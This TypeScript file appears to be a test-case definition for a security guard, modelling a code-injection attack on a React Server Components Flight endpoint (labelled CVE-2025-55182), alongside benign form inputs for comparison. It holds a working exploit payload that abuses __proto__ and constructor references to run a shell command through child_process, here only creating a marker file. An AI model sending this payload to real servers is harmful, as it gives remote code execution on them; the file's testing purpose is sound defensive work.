import { postText, type KnownCase, type KnownRequest } from '../case.ts';

const BOUNDARY = 'xyzFlightForm';
const form = (path: string, fields: readonly string[]): KnownRequest =>
  postText(
    path,
    fields
      .map((value, index) => `--${BOUNDARY}\r\ncontent-disposition: form-data; name="${index}"\r\n\r\n${value}\r\n`)
      .join('') + `--${BOUNDARY}--\r\n`,
    `multipart/form-data; boundary=${BOUNDARY}`,
  );

const flight = (path: string, title: string): KnownCase => ({
  app: 'flight',
  package: 'react-server-dom-webpack',
  id: 'CVE-2025-55182',
  guard: 'code-injection',
  title,
  attack(places) {
    const file = places.made();
    const fake = {
      // That it is awaited is the attack.
      // oxlint-disable-next-line unicorn/no-thenable
      then: '$1:__proto__:then',
      status: 'resolved_model',
      reason: -1,
      value: '{"then":"$B1337"}',
      _response: {
        _prefix: `process.mainModule.require('child_process').execSync('touch ${file}');`,
        _chunks: '$Q2',
        _formData: { get: '$1:constructor:constructor' },
      },
    };
    return { requests: [form(path, [JSON.stringify(fake), '"$@0"', '[]'])], effect: { kind: 'file', path: file } };
  },
  benign: () => [
    form(path, ['["Ann",{"theme":"dark"}]']),
    form(path, ['["$D2020-01-01T00:00:00.000Z","the __proto__ of it"]']),
    form(path, ['["$Q1","$2:note"]', '[["a",1]]', '{"note":"constructor"}']),
    form(path, ['[{"then":"later","value":"process.exit()"}]']),
  ],
});

export default [
  flight('/flight/form', 'a reference over __proto__ and constructor makes Function the reader of a form: code'),
  flight('/flight/stream', 'the same while the form is still coming in'),
] satisfies KnownCase[];
